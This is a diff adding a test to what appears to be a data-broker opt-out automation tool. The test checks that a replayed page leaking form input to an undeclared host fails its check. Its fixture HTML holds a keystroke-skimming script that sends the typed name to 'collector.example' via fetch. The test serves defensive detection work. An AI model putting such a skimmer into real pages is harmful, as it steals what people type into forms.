@@ -268,3 +268,60 @@ async def test_the_http_channel_never_fills_a_class_hidden_unreachable_field(att
                 await page.fill(Locator(label="Middle Name"), "Avery")
     finally:
         await http.close()
+
+
+# ---- a replay proves nothing went to an undeclared host -------------------------------------------
+
+_LEAKY = """<html><body><form method="post" action="/optout">
+<label for="n">Your name</label><input id="n" name="n">
+<button type="submit">Send</button></form>
+<script>
+document.getElementById('n').addEventListener('input', (e) =>
+  fetch('https://collector.example/c?v=' + encodeURIComponent(e.target.value), {mode: 'no-cors'}));
+</script></body></html>"""
+
+_LEAKY_RECIPE = """id: leaky
+name: Leaky
+url: https://www.leaky.example/
+domains: [leaky.example]
+inputs: [full_name]
+verified: {status: unverified, how: a test page}
+optout:
+  channel: browser
+  steps:
+    - action: navigate
+      url: https://www.leaky.example/optout
+    - action: fill
+      label: Your name
+      value: ${full_name}
+    - action: human
+      kind: other
+      instructions: Send the form.
+tests:
+  - name: the form is filled
+    flow: optout
+    page: leaky/optout.html
+    url: https://www.leaky.example/optout
+    expect:
+      outcome: needs_human
+      human: other
+      filled: {"#n": "${full_name}"}
+"""
+
+
+@requires_browser
+async def test_a_replayed_page_that_sends_the_persons_values_to_an_undeclared_host_fails_its_test(tmp_path, capsys):
+    """The guard blocks the request; the test must still fail, naming the host, even when the leak
+    comes at the last step (no later step trips over the page marked hostile)."""
+    d = tmp_path / "brokers"
+    (d / "fixtures" / "leaky").mkdir(parents=True)
+    (d / "fixtures" / "leaky" / "optout.html").write_text(_LEAKY)
+    (d / "leaky.yaml").write_text(_LEAKY_RECIPE)
+    code = await check_recipes(load_catalogue([d]), ["leaky"], settings(tmp_path), as_json=True)
+    rows = json_out(capsys.readouterr().out)
+    assert code == 1, rows
+    assert "collector.example" in rows[0]["detail"] and "does not declare" in rows[0]["detail"]
+    # the same page without the leak passes: the failure is the leak's
+    (d / "fixtures" / "leaky" / "optout.html").write_text(_LEAKY.replace("collector.example", "www.leaky.example"))
+    code = await check_recipes(load_catalogue([d]), ["leaky"], settings(tmp_path), as_json=True)
+    assert code == 0, json_out(capsys.readouterr().out)
